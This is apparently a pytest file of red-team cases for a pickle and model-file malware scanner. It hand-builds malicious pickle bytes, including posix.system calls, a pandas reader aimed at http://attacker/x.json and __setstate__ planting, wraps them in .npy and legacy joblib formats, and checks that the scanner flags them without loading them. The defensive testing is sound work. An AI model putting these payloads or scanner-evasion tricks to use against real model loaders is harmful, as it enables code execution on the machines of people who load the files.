"""Red-team cases for issue 14 that got through: each file is built here and only scanned, never loaded."""

from __future__ import annotations

import struct
import zlib

import pytest

from tests.support.allowlist import HARMLESS_CLASSES, prefix_members
from tests.support.samples import is_malicious, rules, scan

PAYLOAD = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."


@pytest.mark.parametrize("descr", ["'object'", "'object_'", "'O8'", "'i4,O'", "'(2,)O'", "'a,O'"])
def test_npy_object_dtype_spelled_as_numpy_dtype_reads_it(tmp_path, descr):
    """numpy.lib.format hands the descr to numpy.dtype(): 'object' is an object array, whose data is a pickle."""
    header = "{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (118 - len(header) - 1) + "\n"
    p = tmp_path / "a.npy"
    p.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + PAYLOAD)
    assert is_malicious(scan(p))


def test_npy_plain_dtypes_are_not_pickles(tmp_path):
    from gapsync.scanner.formats.numpy_files import _has_object
    for d in ("<f8", "|b1", "<U5", "|S3", "<M8[ns]", "|V8", "float64", "int32", "bool"):
        assert not _has_object(d), d


@pytest.mark.parametrize("space", [b"", b" "])
def test_joblib_old_zfile_format_is_decompressed(tmp_path, space):
    """joblib.load still reads joblib < 0.10's format: b"ZF", the length in hex padded to 19
    characters (one more space from old Python 2 joblib), then a zlib stream that it unpickles."""
    p = tmp_path / "model.pkl"
    p.write_bytes(b"ZF" + f"{len(PAYLOAD):#x}".encode().ljust(19) + space + zlib.compress(PAYLOAD))
    assert is_malicious(scan(p))


def _defining_module(cls) -> str | None:
    """Where a class's code really lives. ``__module__`` can say otherwise: pandas 3 sets it to the
    public path (``pandas.api.typing.JsonReader`` is ``pandas.io.json._json.JsonReader``), so the
    file of one of its functions decides."""
    import os
    import sys

    for value in vars(cls).values():
        value = getattr(value, "__func__", value)
        code = getattr(getattr(value, "fget", value), "__code__", None)
        if code is None:
            continue
        path = os.path.realpath(code.co_filename)
        for entry in sorted((os.path.realpath(p) for p in sys.path if p), key=len, reverse=True):
            if path.startswith(entry + os.sep):
                parts = os.path.relpath(path, entry).removesuffix(".py").split(os.sep)
                return ".".join(parts[:-1] if parts[-1] == "__init__" else parts)
        return None
    return None


@pytest.mark.parametrize("library", ["pandas", "sklearn", "torch"])
def test_prefix_rules_judge_a_class_where_its_code_lives(library):
    """A prefix admits a class by the name it is imported under; what it does is decided where
    its code lives. pandas.api.typing:JsonReader/StataReader/SASReader (readers that open the path
    or URL they are given) passed as classes 'of' pandas.api.typing."""
    import inspect

    pytest.importorskip(library)

    from gapsync.policies import pickle_globals as pg

    pol = pg.load_pickle_policy()
    problems = []
    for prefix in [p for p in pol.allow_classes if p.split(".")[0] == library]:
        for module, name, obj in prefix_members(prefix):
            if not inspect.isclass(obj) or pol.classify(module, name).action is not pg.GlobalAction.ALLOW:
                continue
            home = _defining_module(obj)
            if f"{home}.{obj.__qualname__}" in HARMLESS_CLASSES:
                continue
            if home is not None and home != module and pol.classify(home, obj.__qualname__).action is pg.GlobalAction.DENY:
                problems.append(f"{module}:{name} is {home}.{obj.__qualname__}, denied there")
    assert problems == []


@pytest.mark.parametrize("name", ["JsonReader", "StataReader", "SASReader"])
def test_pandas_readers_under_their_public_name_are_not_allowed(tmp_path, name):
    """pickle.dumps writes pandas 3's readers as pandas.api.typing:<Reader>; loading one reads a URL."""
    p = tmp_path / "frame.pkl"
    p.write_bytes(b"\x80\x04\x8c\x11pandas.api.typing\x94\x8c" + bytes([len(name)]) + name.encode()
                  + b"\x94\x93\x8c\x16http://attacker/x.json\x94\x85\x94R\x94.")
    assert is_malicious(scan(p))


def _s(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


_ORDERED_DICT = b"\x80\x04" + _s("collections") + _s("OrderedDict") + b"\x93)R"
_MEAN = _s("numpy") + _s("mean") + b"\x93"
_DICT_CALL = _s("builtins") + _s("dict") + b"\x93" + _s("__setstate__") + _MEAN + b"\x86\x85\x85R"  # dict(((k, v),))


@pytest.mark.parametrize("state", [
    _DICT_CALL,  # a dict built by dict([(k, v)]): the unpickler takes any dict as the state
    b"N" + _DICT_CALL + b"\x86",  # the same as the slot state
    _s("builtins") + _s("dict") + b"\x93)}" + _s("__setstate__") + _MEAN + b"s\x92",  # dict(**{k: v})
    _s("collections") + _s("OrderedDict") + b"\x93)R" + _s("__setstate__") + _MEAN + b"s",  # OrderedDict() + SETITEM
    b"}" + _s("builtins") + _s("str") + b"\x93C\x0c__setstate__" + _s("ascii") + b"\x86R" + _MEAN + b"s",  # computed key
], ids=["dict-call", "slot-state", "dict-kwargs", "ordereddict-setitem", "computed-key"])
def test_build_planting_setstate_through_a_dict_built_at_load_time(tmp_path, state):
    """BUILD with a state whose '__setstate__' key is not a literal of a dict literal plants the method
    all the same (the next BUILD calls it with anything): reported like a literal dunder key."""
    p = tmp_path / "planted.pkl"
    p.write_bytes(_ORDERED_DICT + state + b"b" + _s("x") + b"b.")
    assert "pickle.build.dunder" in rules(scan(p))


_INSTANCE = _s("collections") + _s("OrderedDict") + b"\x93)R"  # an object, not a global


@pytest.mark.parametrize("body, rule", [
    # torch's _rebuild_from_type_v2(func, new_type, args, state) runs func(*args): here an object
    (_s("torch._tensor") + _s("_rebuild_from_type_v2") + b"\x93(" + _INSTANCE + _s("torch") + _s("Tensor")
     + b"\x93)}tR.", "pickle.call.indirect"),
    # ... and setattr()s its state: a dunder planted that way
    (_s("torch._utils") + _s("_rebuild_parameter_with_state") + b"\x93(N\x88" + _INSTANCE + b"}"
     + _s("__class__") + _MEAN + b"stR.", "pickle.build.dunder"),
    # numpy's __generator_ctor(name, ctor) runs ctor(name)
    (_s("numpy.random._pickle") + _s("__generator_ctor") + b"\x93(" + _s("MT19937") + _INSTANCE + b"tR.",
     "pickle.call.indirect"),
], ids=["rebuild_from_type_v2-func", "rebuild_parameter_with_state", "generator_ctor"])
def test_allowed_reconstructors_that_call_an_argument_are_judged_for_that_call(tmp_path, body, rule):
    p = tmp_path / "m.pkl"
    p.write_bytes(b"\x80\x04" + body)
    assert rule in rules(scan(p))


def test_rebuild_from_type_v2_of_a_nested_loader_is_analysed(tmp_path):
    p = tmp_path / "m.pkl"
    p.write_bytes(b"\x80\x04" + _s("torch._tensor") + _s("_rebuild_from_type_v2") + b"\x93(" + _s("_pickle")
                  + _s("loads") + b"\x93" + _s("torch") + _s("Tensor") + b"\x93C\x0ecos\nsystem\n.\x85}tR.")
    assert any("os.system" in f.message for f in scan(p))
